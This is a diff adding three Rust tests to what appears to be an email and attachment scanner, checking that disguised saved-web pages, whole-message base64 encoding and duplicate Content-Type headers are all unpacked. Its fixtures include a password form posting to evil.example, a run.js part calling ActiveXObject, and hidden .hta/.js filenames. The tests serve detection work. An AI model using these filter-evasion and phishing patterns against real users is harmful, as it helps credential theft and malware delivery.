@@ -57,6 +57,50 @@ fn two_readings_of_a_message_within_are_both_opened() {
 }
 
 #[test]
+fn office_documents_that_are_saved_pages_are_read() {
+    let page = base64::Engine::encode(
+        &base64::engine::general_purpose::STANDARD,
+        "<form action=https://evil.example/p><input type=password></form>",
+    );
+    let message = format!(
+        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n\
+        Content-Location: file:///C:/1/a.htm\r\nContent-Transfer-Encoding: base64\r\n\
+        Content-Type: text/html; charset=\"us-ascii\"\r\n\r\n{page}\r\n--b--\r\n"
+    );
+    for (name, before) in [("a.doc", ""), ("a.xls", "lines that\r\nnobody reads\r\n"), ("a.mht", "")] {
+        let content = open(name, "", format!("{before}{message}").as_bytes());
+        let page = content.items.iter().find(|item| item.kind == "html");
+        let page = page.unwrap_or_else(|| panic!("{name}: {}", show(&content)));
+        assert!(page.marks.iter().any(|mark| mark == "password_field"), "{}", show(&content));
+        assert_eq!(page.inline, !name.ends_with("mht"), "{name}: a browser opens it as a file");
+    }
+}
+
+#[test]
+fn what_is_encoded_as_a_whole_is_read_as_a_message() {
+    let inner = "--x\r\nContent-Type: text/plain; name=run.js\r\n\r\nnew ActiveXObject('a')\r\n--x--\r\n";
+    let encoded = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, inner);
+    let message = format!(
+        "From: a@a.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\
+        Content-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n"
+    );
+    let content = open("a.eml", "", message.as_bytes());
+    let found = content.items.iter().find(|item| item.names.iter().any(|name| name == "run.js"));
+    assert!(found.is_some_and(|item| item.text.contains("ActiveXObject")), "{}", show(&content));
+}
+
+#[test]
+fn a_part_has_the_names_of_every_reading() {
+    let message = "From: a@a.example\r\nTo: b@b.example\r\nMIME-Version: 1.0\r\n\
+        Content-Type: multipart/mixed; boundary=one\r\nContent-Type: text/html; name=run.hta\r\n\r\n\
+        --one\r\nContent-Type: text/plain; name=a.txt\r\nContent-Type: text/plain; name=run.js\r\n\r\n\
+        words\r\n--one--\r\n";
+    let content = open("a.eml", "", message.as_bytes());
+    let all: Vec<&str> = content.items.iter().flat_map(|item| &item.names).map(String::as_str).collect();
+    assert!(all.contains(&"a.txt") && all.contains(&"run.js") && all.contains(&"run.hta"), "{}", show(&content));
+}
+
+#[test]
 fn fragments_and_pointers_are_marked() {
     expect![[r#"
         1 text [] partial
